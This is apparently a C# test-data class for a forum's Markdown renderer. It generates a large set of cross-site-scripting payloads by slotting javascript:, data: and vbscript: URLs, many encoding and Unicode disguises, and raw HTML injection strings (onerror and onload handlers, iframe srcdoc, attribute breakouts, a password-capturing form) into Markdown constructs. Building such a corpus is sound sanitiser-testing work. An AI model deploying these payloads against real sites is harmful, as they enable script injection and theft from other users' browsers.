namespace Forum.Web.Tests.Text;

/// <summary>What people write who want something of theirs to run in the browsers of others.</summary>
internal static class HostileTexts
{
    /// <summary>Everything that Markdown has, with $ where something hostile goes.</summary>
    public static readonly IReadOnlyList<string> Constructs =
    [
        "$", "a $ b", "\\$", "&lt;$&gt;",
        "[x]($)", "[x](<$>)", "[x]( $ )", "[x](\n$\n)", "[x]($ \"t\")", "[x](/$)", "[x](#$)", "[x](//$)", "[x](\\$)", "[x](&#32;$)", "[x]($", "[x]($))", "[$",
        "[x](https://a.example \"$\")", "[x](https://a.example '$')", "[x](https://a.example ($))", "[x](https://a.example/$)", "[x](https://$)",
        "[$](https://a.example)", "[a [$](https://b.example)](https://a.example)", "[x](mailto:$)", "[x](mailto:a@b.example?subject=$)",
        "![x]($)", "![x](<$>)", "![$](https://a.example/c.png)", "![]($)", "![x](https://a.example/c.png \"$\")",
        "[![x]($)](https://a.example)", "[![x](https://a.example)]($)", "![![x]($)]($)", "![[x]($)]($)",
        "[x][r]\n\n[r]: $", "[x][r]\n\n[r]: <$>", "[x][r]\n\n[r]: $ \"t\"", "[x][r]\n\n[r]: https://a.example \"$\"", "[x][r]\n\n[r]:\n$\n'$'",
        "[x]\n\n[x]: $", "[x][]\n\n[x]: $", "![x][r]\n\n[r]: $", "[$]\n\n[$]: https://a.example", "> [r]: $\n\n[x][r]",
        "<$>", "<https://a.example/$>", "<a@b.example$>", "https://a.example/$", "https://a.example/?q=$&r=$", "http://$", "www.a.example/$", "www.$", "mailto:$", "tel:$", "ftp://a.example/$",
        "`$`", "`` $ ``", "`$", "    $", "\t$", "```\n$\n```", "``` $\ncode\n```", "```$\ncode\n```", "~~~ $\ncode\n~~~", "~~~ csharp $\ncode\n~~~", "```\n$",
        "# $", "###### $ #", "$\n===", "$\n---", "> $", "> > $", ">$\n\n$", "- $", "* - + $", "1. $", "a. $", "iv) $", "- a\n\n  $", "***\n$\n***",
        "- [ ] $", "- [x] [x]($)", "- [$] x", "[x] $",
        "| a | b |\n|---|:-:|\n| $ | [x]($) |", "| $ | b |\n|--:|---|\n| a | b |", "$|$\n-|-\n$|$", "a|b\n-|-\n`$`|**$**",
        "**$**", "*$*", "***$*", "_$_", "~~$~~", "~$~", "^$^", "++$++", "==$==", "**$", "*a **$*",
        "@$", "@alice$", "$@alice", "@alice $ @bob", "[@alice]($)", "@alice@$", "> @alice $",
        "> [alice wrote](/p/$):\n> $", "> [$](/p/1):\n> x", "[x](/p/1$)",
        "<a href=\"$\">x</a>", "<a href=$>x</a>", "<img src=$>", "<div>\n$\n</div>", "<div>\n\n$\n\n</div>", "<!-- $ -->", "<![CDATA[$]]>", "<?$?>", "<!DOCTYPE $>", "<$", "</$>", "<script>$</script>", "<svg><a xlink:href=\"$\"><text>x</text></a></svg>", "<style>$</style>", "<textarea>$", "<title>$",
        "[x](https://a.example){$}", "{$}", "# x {$}", "*x*{onclick=$}", "[^1]\n\n[^1]: $", "*[x]: $\n\nx", "$\n:   $", "::: $\nx\n:::", "$$", "![](https://youtu.be/$)", ":$:", "^^^ $\nx\n^^^", "a\\\n$", "a  \n$", "&$;", "&#$;",
    ];

    private const string Script = "javascript:alert(1)";

    private static readonly string[] OtherAddresses =
    [
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload=alert(1)>", "vbscript:msgbox(1)",
        "file:///etc/passwd", "blob:https://a.example/1", "view-source:javascript:alert(1)", "livescript:alert(1)", "filesystem:https://a.example/x", "intent://x#Intent;end",
    ];

    private static readonly Func<string, string>[] Disguises =
    [
        url => url,
        url => url.ToUpperInvariant(),
        url => $"&#{(int)url[0]};{url[1..]}",
        url => $"&#x{(int)url[0]:x};{url[1..]}",
        url => $"&#0000{(int)url[0]}{url[1..]}",
        url => string.Concat(url.Select(c => $"&#{(int)c};")),
        url => Colon(url, "&colon;"),
        url => Colon(url, "&#58;"),
        url => Colon(url, "\\:"),
        url => Colon(url, "%3A"),
        url => Colon(url, "\uFF1A"),
        url => Colon(url, "\u0589:"),
        url => Colon(url, " :"),
        url => Inside(url, "\t"),
        url => Inside(url, "\n"),
        url => Inside(url, "\r\n"),
        url => Inside(url, "&Tab;"),
        url => Inside(url, "&NewLine;"),
        url => Inside(url, "&#9;"),
        url => Inside(url, "&#x0A;"),
        url => Inside(url, "\0"),
        url => Inside(url, "&#0;"),
        url => Inside(url, "\u00AD"),
        url => Inside(url, "\u200B"),
        url => Inside(url, "\\"),
        url => Inside(url, "%0A"),
        url => Inside(url, "<!-- -->"),
        url => "\u0001" + url,
        url => "\u001F" + url,
        url => "&#1;" + url,
        url => "&#x1F;" + url,
        url => "&nbsp;" + url,
        url => "\u00A0" + url,
        url => "\u2028" + url,
        url => "\u202E" + url,
        url => "\uFEFF" + url,
        url => "\u0085" + url,
        url => "%20" + url,
        url => "<" + url,
        url => "//" + url,
        url => "\\\\" + url,
        url => url.Replace('s', '\u017F'),
        url => url.Replace("script", "ſcript", StringComparison.Ordinal),
        url => url.Replace('i', '\u0456'),
        url => url + "//https://a.example",
        url => "https:" + url,
        url => "mailto:" + url,
        url => url + "\" onmouseover=\"alert(1)",
        url => url + "' onmouseover='alert(1)",
    ];

    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//a.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src=`x`onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml;base64,PHN2Zz4= /></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe src=javascript:alert(1)>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//a.example>", "<meta http-equiv=refresh content=0;url=//a.example>", "<link rel=stylesheet href=//a.example>",
        "<style>*{display:none}</style>", "<form action=//a.example><input name=password>", "<button formaction=javascript:alert(1)>x", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<div style=\"position:fixed\">",
        "<p id=main>", "<a name=posts>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><script>alert(1)</script></xmp>", "<plaintext>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?php echo 1 ?>", "]]><script>alert(1)</script>", "<x onclick=alert(1)>", "<x/onclick=alert(1)//",
        "</p><script>alert(1)</script>", "</code></pre><script>alert(1)</script>", "</a><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</td></tr></table><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "x\" style=\"position:fixed\" id=\"main\" x=\"", "&quot; onmouseover=&quot;alert(1)", "&#34;&#62;&lt;script&gt;",
        "\\\" onmouseover=alert(1)", "\u2028<img src=x onerror=alert(1)>", "\0<script>alert(1)</script>", "<\0script>alert(1)</script>", "<script\u2029>", "＜script＞alert(1)＜/script＞", "%3Cscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;script&#x3E;",
        "{onclick=alert(1)}", "{.a #main style=x}", "#main .a onclick=alert(1)", "onclick=alert(1)", "html\" onclick=\"alert(1)", "language-x\"><script>", "[x](javascript:alert(1))", "![x](javascript:alert(1))", "<javascript:alert(1)>",
        "[a](b \"c\" onclick=alert(1))", "[a](<javascript:alert(1)> 'x')", "](javascript:alert(1))", "`]( javascript:alert(1) )`", "|[x](javascript:alert(1))|", "\u202Egnp.exe", "\uD800", "e\u0301\u0327\u0489", "****", "[[[[", "]]]]", "((((", "))))", "```", "~~~", "|||", "> - # ", "\n\n", "\n---\n", "\n```\n",
    ];

    /// <summary>Scripts in every disguise, other addresses in some, and markup.</summary>
    public static readonly IReadOnlyList<string> Payloads =
    [
        .. Disguises.Select(disguise => disguise(Script))
            .Concat(OtherAddresses.SelectMany((url, i) => Disguises.Where((_, j) => j == 0 || j % OtherAddresses.Length == i).Select(disguise => disguise(url))))
            .Concat(Markup).Distinct(),
    ];

    private static string Colon(string url, string other)
    {
        var colon = url.IndexOf(':', StringComparison.Ordinal);
        return url[..colon] + other + url[(colon + 1)..];
    }

    private static string Inside(string url, string other) => url[..4] + other + url[4..];
}
